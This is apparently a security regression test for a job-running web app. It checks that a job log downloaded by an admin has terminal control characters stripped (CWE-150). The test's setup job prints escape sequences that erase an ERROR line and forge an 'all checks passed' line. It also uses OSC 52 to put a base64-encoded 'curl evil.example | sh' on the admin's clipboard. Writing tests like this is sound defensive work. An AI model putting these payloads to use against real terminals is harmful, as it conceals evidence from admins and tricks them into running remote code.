// Attack (hostile second user → admin's terminal): terminal escape injection through a downloaded
// job log (CWE-150). A user's shell job prints raw control sequences: `ESC[1A ESC[2K` (cursor up,
// erase line), a carriage return, and OSC 52 (`ESC]52;c;…BEL`, which asks the terminal to set the
// clipboard). The admin saves the job's log (Jobs page → Log → Download, GET /api/v1/jobs/:id/logs/text)
// and reads `job-N.log` with cat/tail/less -R: the terminal obeys the bytes, so the job erases its own
// earlier ERROR line, overwrites a line with a forged "INFO ... all checks passed", and may write the
// admin's clipboard (a command to paste). The page's log view draws ESC as a box and is not affected;
// the file is. Expected: a log as a file holds no control character but tab and line ends (each other
// one written visibly, e.g. `\x1b` or `␛`), as journald and many log viewers do. Fails today: raw bytes.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startTestApp, waitForStatus, type TestApp } from '../support/app'
import { addUser } from '../support/users'

let t: TestApp
let jobId: number
beforeAll(async () => {
  t = await startTestApp()
  const mallory = await addUser(t, 'mallory', { rights: ['scripts'] })
  const code = [
    `printf 'ERROR wrote /home/admin/.ssh/authorized_keys\\n'`,
    `printf '\\033[1A\\033[2Kstep 2 of 2\\n'`, // in a terminal: the ERROR line above is erased
    `printf 'partial\\r2026-01-01T00:00:00.000Z INFO  [main] all checks passed\\n'`,
    `printf 'ok\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\\007\\n'`, // OSC 52: clipboard := "curl evil.example | sh"
  ].join('\n')
  const { status, body } = await mallory.call('POST', '/api/v1/jobs', { type: 'script', language: 'shell', code, name: 'checks' })
  expect(status).toBe(201)
  jobId = (await waitForStatus(t, body.id, ['succeeded', 'failed'], 30_000)).id
})
afterAll(() => t.close())

describe('a job log saved as a file by the admin', () => {
  it('holds no raw terminal control characters (ESC, CR, BEL) from the job’s output', async () => {
    const { status, body } = await t.call('GET', `/api/v1/jobs/${jobId}/logs/text`)
    expect(status).toBe(200)
    const text = body.text as string
    expect(text).toContain('authorized_keys') // the job's output is there
    const raw = [...text.matchAll(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g)].map((m) => `U+${m[0].codePointAt(0)!.toString(16).padStart(4, '0')}`)
    expect(raw, `the file as saved:\n${JSON.stringify(text)}`).toEqual([])
  })
})
